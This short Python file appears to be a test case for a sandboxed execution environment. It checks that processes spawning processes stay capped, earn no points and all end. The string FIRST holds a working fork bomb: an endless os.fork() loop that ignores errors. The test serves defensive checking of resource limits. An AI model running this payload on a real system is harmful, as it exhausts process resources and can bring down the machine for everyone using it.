"""Start processes that start processes.

Must happen: no points; their number has a cap, and all of them end.
"""

FIRST = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
